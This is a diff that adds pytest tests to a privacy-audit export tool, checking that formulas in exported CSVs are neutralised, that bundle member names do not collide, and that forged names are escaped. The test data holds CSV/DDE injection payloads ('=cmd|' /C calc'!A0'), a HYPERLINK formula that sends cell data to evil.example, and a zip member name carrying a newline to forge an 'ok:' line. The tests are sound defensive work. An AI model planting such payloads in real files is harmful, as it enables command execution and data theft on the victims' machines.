@@ -184,3 +184,96 @@ def test_malformed_manifests_are_reported_not_crashed_on(tmp_path, capsys, manif
     code, out, err = _run(["verify-bundle", path], capsys)
     assert code in (1, 2), err
     assert "internal error" not in err and "Traceback" not in err
+
+
+# ------------------------------------------------------------- 11, 12: formulas and member names
+
+_HOSTILE_MAP = """\
+organization: Test Co
+datasets:
+  - name: manifest
+    path: manifest.csv
+    zone: pseudonymous
+    subject_key: user_token
+  - name: events
+    path: events.csv
+    zone: pseudonymous
+    subject_key: user_token
+  - name: events!
+    path: events_bang.csv
+    zone: pseudonymous
+    subject_key: user_token
+  - name: Events
+    path: events_upper.csv
+    zone: pseudonymous
+    subject_key: user_token
+"""
+_FORMULAS = ['=cmd|\' /C calc\'!A0', '=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
+             "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1"]
+
+
+def _hostile_estate(root: Path) -> Path:
+    root.mkdir(parents=True, exist_ok=True)
+    (root / "datamap.yaml").write_text(_HOSTILE_MAP)
+    rows = [("u_000001", f, "-12.5", "+1 415 555 0100") for f in _FORMULAS] + [("u_000002", "=1+1", "1", "x")]
+    frame = pd.DataFrame(rows, columns=["user_token", "note", "amount", "phone"])
+    frame.to_csv(root / "events.csv", index=False)
+    frame.iloc[:2].to_csv(root / "manifest.csv", index=False)
+    frame.iloc[2:4].to_csv(root / "events_bang.csv", index=False)
+    frame.iloc[4:5].to_csv(root / "events_upper.csv", index=False)
+    return root / "datamap.yaml"
+
+
+def _bundle_files(path: Path) -> dict[str, bytes]:
+    with zipfile.ZipFile(path) as zf:
+        return {n: zf.read(n) for n in zf.namelist()}
+
+
+@pytest.fixture
+def hostile_bundle(tmp_path, capsys):
+    dm = _hostile_estate(tmp_path / "h")
+    out = tmp_path / "b.zip"
+    code, _, err = _run(["export", dm, "--subject", "token=u_000001", "--out", out, "--no-audit-log"], capsys)
+    assert code == 0, err
+    return out
+
+
+def test_formulas_in_exported_csvs_are_neutralised(hostile_bundle):
+    files = _bundle_files(hostile_bundle)
+    csvs = [n for n in files if n.endswith(".csv")]
+    assert csvs
+    cells = []
+    for name in csvs:
+        frame = pd.read_csv(io.BytesIO(files[name]), dtype=str, keep_default_na=False)
+        cells += [v for col in frame.columns for v in frame[col]]
+    formulas = [v for v in cells if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert formulas and set(formulas) <= {"-12.5", "+1 415 555 0100"}, formulas  # signed numbers stay numbers
+    assert sum(v.startswith("'=") or v.startswith("'@") or v.startswith("'+") for v in cells) >= 5
+    # the JSON copy keeps the subject's values exactly as held
+    records = json.loads(files["events.json"])
+    assert {r["note"] for r in records} == set(_FORMULAS)
+
+
+def test_bundle_member_names_never_collide(hostile_bundle, capsys):
+    files = _bundle_files(hostile_bundle)
+    manifest = json.loads(files["manifest.json"])
+    assert manifest["format"] == "privacy-audit-subject-access-bundle"
+    by_name = {d["name"]: d for d in manifest["datasets"]}
+    assert set(by_name) == {"manifest", "events", "events!", "Events"}
+    members = [f for d in manifest["datasets"] for f in d["files"]]
+    assert len({m.casefold() for m in members}) == len(members) == 8
+    for name, n in (("manifest", 2), ("events", len(_FORMULAS)), ("events!", 2), ("Events", 1)):
+        entry = by_name[name]
+        assert entry["records"] == n
+        assert len(json.loads(files[entry["files"][0]])) == n, name  # every row of every dataset is there
+    code, out, err = _run(["verify-bundle", hostile_bundle], capsys)
+    assert code == 0 and out.startswith("ok:"), out + err
+
+
+def test_verify_bundle_prints_member_names_escaped(tmp_path, capsys):
+    forged = "x.csv\nok: 12 files match the manifest"
+    path = _zip_with({"manifest.json": b'{"files": {}}', forged: b"added"}, tmp_path / "forged.zip")
+    code, out, err = _run(["verify-bundle", path], capsys)
+    assert code == 1
+    assert not any(line.startswith("ok:") for line in out.splitlines()), out
+    assert "\\n" in out
